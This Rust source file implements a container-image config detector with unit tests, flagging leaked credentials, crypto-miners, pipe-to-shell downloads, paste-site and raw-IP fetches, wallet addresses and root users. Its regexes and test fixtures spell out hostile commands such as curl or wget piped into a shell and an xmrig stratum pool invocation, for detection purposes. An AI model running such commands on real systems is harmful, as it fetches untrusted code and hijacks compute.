//! The image-config detector: credentials in ENV, labels and build arguments; miners and
//! download-and-run in CMD/ENTRYPOINT; risky build steps in `history[].created_by`; root
//! user.

use regex::Regex;

use super::{Detector, ImageContext};
use crate::finding::{Category, Confidence, Finding, Location, Severity, redact};

/// Finds problems in the image config.
pub struct ConfigDetector {
    cred_name: Regex,
    not_secret_name: Regex,
    value_shapes: Vec<(&'static str, Regex)>,
    miner: Regex,
    pipe_to_shell: Regex,
    raw_ip_url: Regex,
    build_arg: Regex,
    paste_sites: Vec<&'static str>,
    /// Secrets inside commands: group 1 is kept, group 2 is redacted.
    command_secrets: Vec<Regex>,
    /// Wallet-address candidates; each is checksum-validated before it counts.
    wallet: Regex,
}

impl Default for ConfigDetector {
    fn default() -> Self {
        Self::new()
    }
}

impl ConfigDetector {
    pub fn new() -> Self {
        let re = |s: &str| Regex::new(s).expect("built-in regex compiles");
        ConfigDetector {
            cred_name: re(
                r"(?i)(passw(or)?d|passwd|pwd$|secret|token|api_?key|apikey|access_?key|private_?key|credential|auth_?key|client_?secret|_pass$|^pass$)",
            ),
            // Names that carry a credential's *location* or metadata, not the credential.
            not_secret_name: re(
                r"(?i)(_file|_path|_dir|_url_file|_id|_name|_user(name)?|_length|_ttl|_expir[a-z]*|_timeout|_type|_header|_endpoint|_version|_enabled|_policy)$",
            ),
            value_shapes: vec![
                (
                    "AWS access key id",
                    re(r"\b(AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}\b"),
                ),
                (
                    "GitHub token",
                    re(r"\b(gh[pousr]_[A-Za-z0-9]{36,255}|github_pat_[A-Za-z0-9_]{60,255})\b"),
                ),
                ("GitLab token", re(r"\bglpat-[A-Za-z0-9_\-]{20,}\b")),
                ("Slack token", re(r"\bxox[baprse]-[A-Za-z0-9-]{10,}\b")),
                ("Stripe secret key", re(r"\b[sr]k_live_[A-Za-z0-9]{20,}\b")),
                ("Google API key", re(r"\bAIza[0-9A-Za-z_\-]{35}\b")),
                (
                    "private key",
                    re(r"-----BEGIN ((RSA|EC|DSA|OPENSSH|ENCRYPTED) )?PRIVATE KEY-----"),
                ),
                (
                    "URL with embedded password",
                    re(r"[a-z][a-z0-9+.\-]*://[^/\s:@]+:([^/\s@]{3,})@[^\s/]+"),
                ),
            ],
            miner: re(
                r"(?i)(stratum\d?\+(tcp|ssl|tls)://|\bxmrig\b|\bxmr-stak|\bcpuminer\b|\bminerd\b|\bccminer\b|\bcgminer\b|\bbfgminer\b|\bethminer\b|\bnbminer\b|\blolminer\b|\bt-rex\b|\bsrbminer|\bnanominer\b|\bphoenixminer\b|\bteamredminer\b|--donate-level|--randomx|\bcryptonight\b)",
            ),
            pipe_to_shell: re(
                r"(?i)\b(curl|wget|fetch)\b[^|;&]*\|\s*(sudo\s+)?(ba|da|z|k)?sh\b|\b(ba)?sh\s+-c\s+[\x22']?\$\((curl|wget)",
            ),
            raw_ip_url: re(
                r"(?i)\b(https?|ftp|tcp)://(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})(:\d+)?(/|\s|$)",
            ),
            build_arg: re(r"^\|\d+\s+(.*?)\s+/bin/(ba)?sh\s+-c"),
            paste_sites: canary_rules::paste_sites().collect(),
            wallet: re(
                r"\b([48][1-9A-HJ-NP-Za-km-z]{94}([1-9A-HJ-NP-Za-km-z]{11})?|bc1[02-9ac-hj-np-z]{11,71}|BC1[02-9AC-HJ-NP-Z]{11,71}|[13][1-9A-HJ-NP-Za-km-z]{25,34})\b",
            ),
            command_secrets: vec![
                re(
                    r"(?i)(\b[A-Z0-9_]*(?:PASSW(?:OR)?D|SECRET|TOKEN|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY|CREDENTIAL|AUTH)[A-Z0-9_]*=['\x22]?)([^\s'\x22]+)",
                ),
                re(r"(?i)((?:^|\s)(?:-u|--user)(?:\s+|=)['\x22]?[^\s:'\x22]*:)([^\s'\x22]+)"),
                re(r"(?i)(authorization:\s*(?:bearer\s+|basic\s+|token\s+)?)([^\s'\x22]+)"),
                re(
                    r"(?i)((?:--password|--passwd|--token|--api-key|--secret)(?:\s+|=)['\x22]?)([^\s'\x22]+)",
                ),
            ],
        }
    }

    fn finding(
        rule_id: &str,
        confidence: Confidence,
        title: String,
        field: String,
        evidence: String,
        raw: &[u8],
    ) -> Finding {
        let meta = canary_rules::rule(rule_id).expect("config rule ids exist in the catalog");
        Finding {
            rule_id: rule_id.to_string(),
            category: category_of(&meta.category),
            severity: meta.severity.parse().unwrap_or(Severity::High),
            confidence,
            title,
            fingerprint: Finding::fingerprint_of(rule_id, &field, raw),
            location: Location::ImageConfig { field },
            evidence,
        }
    }

    /// Secret-shaped values anywhere; returns whether one fired.
    fn check_value_shapes(
        &self,
        field: &str,
        name: &str,
        value: &str,
        out: &mut Vec<Finding>,
    ) -> bool {
        let mut fired = false;
        for (what, re) in &self.value_shapes {
            if let Some(m) = re.find(value) {
                let matched = m.as_str();
                if is_documented_example(matched) {
                    continue;
                }
                // For URLs, show where they point and hide only the password.
                let (shown, raw) = match re.captures(value) {
                    Some(c) if *what == URL_WITH_PASSWORD => (
                        redact_group(&c, 1),
                        c.get(1).map_or(matched, |g| g.as_str()),
                    ),
                    _ => (redact(matched), matched),
                };
                out.push(Self::finding(
                    "config/env-secret-value",
                    Confidence::High,
                    format!("{what} in {field}"),
                    field.to_string(),
                    format!("{name}={shown}"),
                    raw.as_bytes(),
                ));
                fired = true;
            }
        }
        fired
    }

    fn is_credential_name(&self, name: &str) -> bool {
        self.cred_name.is_match(name) && !self.not_secret_name.is_match(name)
    }

    fn check_env(&self, env: &[String], out: &mut Vec<Finding>) {
        for (i, kv) in env.iter().enumerate() {
            let (name, value) = kv.split_once('=').unwrap_or((kv.as_str(), ""));
            let field = format!("config.Env[{i}] ({name})");
            if self.check_value_shapes(&field, name, value, out) {
                continue;
            }
            if self.is_credential_name(name) && looks_like_literal_secret(value) {
                out.push(Self::finding(
                    "config/env-credential",
                    if value.len() >= 8 {
                        Confidence::High
                    } else {
                        Confidence::Medium
                    },
                    format!("ENV {name} holds a literal credential"),
                    field,
                    format!("{name}={}", redact(value)),
                    value.as_bytes(),
                ));
            }
        }
    }

    fn check_labels(
        &self,
        labels: &std::collections::BTreeMap<String, String>,
        out: &mut Vec<Finding>,
    ) {
        for (k, v) in labels {
            let field = format!("config.Labels[{k:?}]");
            if self.check_value_shapes(&field, k, v, out) {
                continue;
            }
            let last = k.rsplit(['.', '/']).next().unwrap_or(k);
            if self.is_credential_name(last) && looks_like_literal_secret(v) {
                out.push(Self::finding(
                    "config/label-credential",
                    Confidence::Medium,
                    format!("label {k} holds a literal credential"),
                    field,
                    format!("{k}={}", redact(v)),
                    v.as_bytes(),
                ));
            }
        }
    }

    fn check_command(&self, field: &str, argv: &[String], out: &mut Vec<Finding>) {
        if argv.is_empty() {
            return;
        }
        let joined = argv.join(" ");
        if let Some(m) = self.miner.find(&joined) {
            out.push(Self::finding(
                "config/miner-command",
                Confidence::High,
                format!("{field} runs a crypto-miner ({})", m.as_str()),
                field.to_string(),
                truncate(&self.redact_command(&joined), 200),
                joined.as_bytes(),
            ));
        }
        if self.pipe_to_shell.is_match(&joined) {
            out.push(Self::finding(
                "config/cmd-download-exec",
                Confidence::High,
                format!("{field} downloads a script and runs it"),
                field.to_string(),
                truncate(&self.redact_command(&joined), 200),
                joined.as_bytes(),
            ));
        }
    }

    fn check_history(&self, i: usize, created_by: &str, out: &mut Vec<Finding>) {
        let field = format!("history[{i}].created_by");
        let shown = truncate(&self.redact_command(created_by), 200);
        if self.pipe_to_shell.is_match(created_by) {
            out.push(Self::finding(
                "config/history-pipe-to-shell",
                Confidence::Medium,
                "build step pipes a download into a shell".into(),
                field.clone(),
                shown.clone(),
                created_by.as_bytes(),
            ));
        }
        if let Some(c) = self.raw_ip_url.captures(created_by) {
            let ip = &c[2];
            if !is_local_ip(ip) {
                out.push(Self::finding(
                    "config/history-raw-ip-download",
                    Confidence::Medium,
                    format!("build step downloads from raw IP {ip}"),
                    field.clone(),
                    shown.clone(),
                    created_by.as_bytes(),
                ));
            }
        }
        if let Some(site) = self.paste_site_in(created_by) {
            out.push(Self::finding(
                "config/history-paste-site",
                Confidence::Medium,
                format!("build step downloads from {site}"),
                field.clone(),
                shown,
                created_by.as_bytes(),
            ));
        }
        if let Some(c) = self.build_arg.captures(created_by) {
            for kv in c[1].split_whitespace() {
                let Some((name, value)) = kv.split_once('=') else {
                    continue;
                };
                if self.is_credential_name(name) && looks_like_literal_secret(value) {
                    out.push(Self::finding(
                        "config/build-arg-credential",
                        Confidence::High,
                        format!("build argument {name} holds a literal credential"),
                        format!("{field} (ARG {name})"),
                        format!("{name}={}", redact(value)),
                        value.as_bytes(),
                    ));
                }
            }
        }
        if let Some(m) = self.miner.find(created_by)
            && m.as_str().to_ascii_lowercase().starts_with("stratum")
        {
            out.push(Self::finding(
                "config/miner-command",
                Confidence::High,
                format!("build step references a mining pool ({})", m.as_str()),
                field,
                truncate(&self.redact_command(created_by), 200),
                created_by.as_bytes(),
            ));
        }
    }

    fn paste_site_in(&self, s: &str) -> Option<&'static str> {
        let lower = s.to_ascii_lowercase();
        self.paste_sites.iter().copied().find(|site| {
            lower.match_indices(site).any(|(at, _)| {
                let before = lower[..at].chars().last();
                let after = lower[at + site.len()..].chars().next();
                matches!(before, Some('/') | Some('.') | Some('@') | Some(' ') | None)
                    && matches!(
                        after,
                        Some('/') | Some(':') | Some(' ') | Some('"') | Some('\'') | None
                    )
            })
        })
    }

    /// Commands are shown as evidence, but any credential inside them is redacted.
    fn redact_command(&self, cmd: &str) -> String {
        let mut s = cmd.to_string();
        for (what, re) in &self.value_shapes {
            s = re
                .replace_all(&s, |c: &regex::Captures<'_>| {
                    if *what == URL_WITH_PASSWORD {
                        redact_group(c, 1)
                    } else {
                        redact(&c[0])
                    }
                })
                .into_owned();
        }
        for re in &self.command_secrets {
            s = re
                .replace_all(&s, |c: &regex::Captures<'_>| {
                    format!("{}{}", &c[1], redact(&c[2]))
                })
                .into_owned();
        }
        s
    }
}

const URL_WITH_PASSWORD: &str = "URL with embedded password";

/// The whole match with capture `group` replaced by its redaction (by position, not by
/// text: `postgres://postgres:postgres@db` hides the password, not the scheme).
fn redact_group(c: &regex::Captures<'_>, group: usize) -> String {
    let whole = c.get(0).expect("group 0 always matches");
    match c.get(group) {
        Some(g) => {
            let (a, b) = (g.start() - whole.start(), g.end() - whole.start());
            let m = whole.as_str();
            format!("{}{}{}", &m[..a], redact(g.as_str()), &m[b..])
        }
        None => redact(whole.as_str()),
    }
}

impl ConfigDetector {
    /// Checksum-valid wallet addresses in one config string.
    fn check_wallets(&self, field: &str, text: &str, out: &mut Vec<Finding>) {
        for m in self.wallet.find_iter(text) {
            let Some(coin) = super::wallet::validate(m.as_str()) else {
                continue;
            };
            let rule = match coin {
                super::wallet::Coin::Monero => "config/monero-wallet",
                super::wallet::Coin::Bitcoin => "config/bitcoin-wallet",
                _ => "config/wallet-address",
            };
            // An address is an indicator, not a secret: shown whole.
            out.push(Self::finding(
                rule,
                Confidence::High,
                format!("{} wallet address in {field}", coin.name()),
                field.to_string(),
                m.as_str().to_string(),
                m.as_str().as_bytes(),
            ));
        }
    }
}

impl Detector for ConfigDetector {
    fn name(&self) -> &'static str {
        "image-config"
    }

    fn scan_config(&self, image: &ImageContext<'_>, out: &mut Vec<Finding>) {
        let c = &image.config.config;
        if let Some(env) = &c.env {
            self.check_env(env, out);
            for (i, kv) in env.iter().enumerate() {
                let name = kv.split('=').next().unwrap_or("");
                self.check_wallets(&format!("config.Env[{i}] ({name})"), kv, out);
            }
        }
        for (field, argv) in [("config.Entrypoint", &c.entrypoint), ("config.Cmd", &c.cmd)] {
            if let Some(argv) = argv {
                self.check_wallets(field, &argv.join(" "), out);
            }
        }
        if let Some(labels) = &c.labels {
            for (k, v) in labels {
                self.check_wallets(&format!("config.Labels[{k:?}]"), v, out);
            }
        }
        for (i, h) in image.config.history.iter().enumerate() {
            if let Some(cb) = &h.created_by {
                self.check_wallets(&format!("history[{i}].created_by"), cb, out);
            }
        }
        if let Some(labels) = &c.labels {
            self.check_labels(labels, out);
        }
        if let Some(ep) = &c.entrypoint {
            self.check_command("config.Entrypoint", ep, out);
        }
        if let Some(cmd) = &c.cmd {
            self.check_command("config.Cmd", cmd, out);
        }
        for (i, h) in image.config.history.iter().enumerate() {
            if let Some(cb) = &h.created_by {
                self.check_history(i, cb, out);
            }
        }
        let user = c.user.as_deref().unwrap_or("").trim();
        let uid = user.split(':').next().unwrap_or("");
        if uid.is_empty() || uid == "root" || uid == "0" {
            out.push(Self::finding(
                "config/user-root",
                Confidence::High,
                "image runs as root".into(),
                "config.User".into(),
                if user.is_empty() {
                    "USER not set".into()
                } else {
                    format!("USER {user}")
                },
                b"root",
            ));
        }
    }
}

fn category_of(s: &str) -> Category {
    match s {
        "secret" => Category::Secret,
        "miner" => Category::Miner,
        "malware" => Category::Malware,
        "runtime" => Category::Runtime,
        "misconfig" => Category::Misconfig,
        _ => Category::Config,
    }
}

/// A value worth reporting under a credential-looking name: non-trivial, not a reference
/// to somewhere else, not an obvious placeholder.
fn looks_like_literal_secret(v: &str) -> bool {
    let v = v.trim().trim_matches(['"', '\'']);
    if v.len() < 4 {
        return false;
    }
    let lower = v.to_ascii_lowercase();
    let placeholders = [
        "changeme",
        "change_me",
        "<password>",
        "password",
        "secret",
        "xxx",
        "xxxx",
        "none",
        "null",
        "true",
        "false",
        "example",
        "your_password",
        "yourpassword",
        "your-token",
        "placeholder",
        "redacted",
        "dummy",
        "todo",
    ];
    if placeholders.contains(&lower.as_str())
        || lower.starts_with("your")
        || lower.chars().all(|c| c == 'x' || c == '*')
    {
        return false;
    }
    if v.starts_with('$') || v.starts_with('/') || v.starts_with("file:") || v.starts_with("{{") {
        return false;
    }
    true
}

/// Vendor-documented example credentials (e.g. in AWS's own docs) are not leaks.
fn is_documented_example(s: &str) -> bool {
    s.contains("EXAMPLE")
}

fn is_local_ip(ip: &str) -> bool {
    ip.starts_with("127.") || ip == "0.0.0.0"
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        let t: String = s.chars().take(n).collect();
        format!("{t}…")
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::image::{ContainerConfig, History, ImageConfig};

    fn scan(cfg: ImageConfig) -> Vec<Finding> {
        let mut out = vec![];
        ConfigDetector::new().scan_config(
            &ImageContext {
                name: "t",
                config: &cfg,
            },
            &mut out,
        );
        out
    }

    fn with_env(env: &[&str]) -> ImageConfig {
        ImageConfig {
            config: ContainerConfig {
                env: Some(env.iter().map(|s| s.to_string()).collect()),
                user: Some("app".into()),
                ..Default::default()
            },
            ..Default::default()
        }
    }

    #[test]
    fn env_credentials_by_name_and_by_shape() {
        let f = scan(with_env(&[
            "DB_PASSWORD=s3cr3t-Pa55",
            "PATH=/usr/bin",
            "TOKEN_FILE=/run/secrets/token",
            "PASSWORD=${PASSWORD}",
            "X=AKIAZ7QWERTYUIOPASDF",
            "API_KEY=changeme",
            "REPO=https://bob:hunter22@git.example.org/x.git",
        ]));
        let ids: Vec<_> = f
            .iter()
            .map(|f| (f.rule_id.as_str(), f.location.display()))
            .collect();
        assert_eq!(ids.len(), 3, "{ids:?}");
        assert!(ids.contains(&(
            "config/env-credential",
            "config.Env[0] (DB_PASSWORD)".into()
        )));
        assert!(ids.contains(&("config/env-secret-value", "config.Env[4] (X)".into())));
        for f in &f {
            assert!(
                !f.evidence.contains("s3cr3t")
                    && !f.evidence.contains("hunter22")
                    && !f.evidence.contains("QWERTYUIOP"),
                "{}",
                f.evidence
            );
        }
    }

    #[test]
    fn evidence_never_shows_secrets_in_urls_commands_or_build_args() {
        let f = scan(with_env(&["AMQP=amqp://guest:guest@rabbit:5672/"]));
        assert_eq!(
            f[0].evidence, "AMQP=amqp://guest:********@rabbit:5672",
            "{:?}",
            f[0]
        );
        let mut cfg = with_env(&[]);
        cfg.history = vec![History {
            created_by: Some(
                "|1 DB_PASSWORD=S3cr3tPassw0rd /bin/sh -c curl -u admin:hunter2pw -H 'Authorization: Bearer eyJabcdefghij' https://pastebin.com/raw/x --token tok123456 | sh".into(),
            ),
            ..Default::default()
        }];
        cfg.config.cmd = Some(vec![
            "sh".into(),
            "-c".into(),
            "curl --password=Pw12345678 http://x/y | sh".into(),
        ]);
        let f = scan(cfg);
        assert!(f.len() >= 4, "{f:#?}");
        for x in &f {
            for secret in [
                "S3cr3tPassw0rd",
                "hunter2pw",
                "eyJabcdefghij",
                "tok123456",
                "Pw12345678",
            ] {
                assert!(!x.evidence.contains(secret), "{secret} in {}", x.evidence);
                assert!(!x.title.contains(secret), "{secret} in {}", x.title);
            }
        }
    }

    #[test]
    fn documented_example_key_is_not_a_finding() {
        assert!(scan(with_env(&["AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE"])).is_empty());
    }

    #[test]
    fn history_and_commands() {
        let mut cfg = with_env(&[]);
        cfg.config.cmd = Some(vec![
            "/bin/sh".into(),
            "-c".into(),
            "curl -s http://x.io/a.sh | bash".into(),
        ]);
        cfg.config.entrypoint = Some(vec![
            "./xmrig".into(),
            "-o".into(),
            "stratum+tcp://pool.example:3333".into(),
        ]);
        cfg.history = vec![
            History {
                created_by: Some("/bin/sh -c wget -qO- http://203.0.113.7/x | sh".into()),
                ..Default::default()
            },
            History {
                created_by: Some("/bin/sh -c curl -fsSL https://pastebin.com/raw/abc -o /x".into()),
                ..Default::default()
            },
            History {
                created_by: Some("|2 GITHUB_TOKEN=abcd1234efgh NODE=20 /bin/sh -c make".into()),
                ..Default::default()
            },
            History {
                created_by: Some("/bin/sh -c apt-get install -y curl".into()),
                ..Default::default()
            },
        ];
        let ids: Vec<String> = scan(cfg)
            .into_iter()
            .map(|f| format!("{} @ {}", f.rule_id, f.location.display()))
            .collect();
        for want in [
            "config/cmd-download-exec @ config.Cmd",
            "config/miner-command @ config.Entrypoint",
            "config/history-pipe-to-shell @ history[0].created_by",
            "config/history-raw-ip-download @ history[0].created_by",
            "config/history-paste-site @ history[1].created_by",
            "config/build-arg-credential @ history[2].created_by (ARG GITHUB_TOKEN)",
        ] {
            assert!(ids.iter().any(|i| i == want), "missing {want} in {ids:#?}");
        }
        assert!(!ids.iter().any(|i| i.contains("history[3]")), "{ids:#?}");
    }

    #[test]
    fn wallets_in_env_and_cmd_are_checksum_validated() {
        let xmr = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A";
        let mut cfg = with_env(&[
            &format!("WALLET={xmr}"),
            "PAYOUT=1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa",
        ]);
        cfg.config.cmd = Some(vec!["./run".into(), "-u".into(), xmr.into()]);
        // Not addresses: a random base58 run and an address with a broken checksum.
        cfg.config.labels = Some(
            [
                ("x".to_string(), format!("4{}", "B".repeat(94))),
                (
                    "y".to_string(),
                    "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb".to_string(),
                ),
            ]
            .into(),
        );
        let f = scan(cfg);
        let got: Vec<(String, String)> = f
            .iter()
            .filter(|f| f.category == Category::Miner)
            .map(|f| (f.rule_id.clone(), f.location.display()))
            .collect();
        assert!(
            got.contains(&(
                "config/monero-wallet".into(),
                "config.Env[0] (WALLET)".into()
            )),
            "{got:?}"
        );
        assert!(
            got.contains(&("config/monero-wallet".into(), "config.Cmd".into())),
            "{got:?}"
        );
        assert!(
            got.contains(&(
                "config/bitcoin-wallet".into(),
                "config.Env[1] (PAYOUT)".into()
            )),
            "{got:?}"
        );
        assert_eq!(got.len(), 3, "{got:?}");
    }

    #[test]
    fn root_user() {
        let mut cfg = with_env(&[]);
        cfg.config.user = None;
        assert!(
            scan(cfg.clone())
                .iter()
                .any(|f| f.rule_id == "config/user-root")
        );
        cfg.config.user = Some("0:0".into());
        assert!(
            scan(cfg.clone())
                .iter()
                .any(|f| f.rule_id == "config/user-root")
        );
        cfg.config.user = Some("1000".into());
        assert!(scan(cfg).is_empty());
    }
}
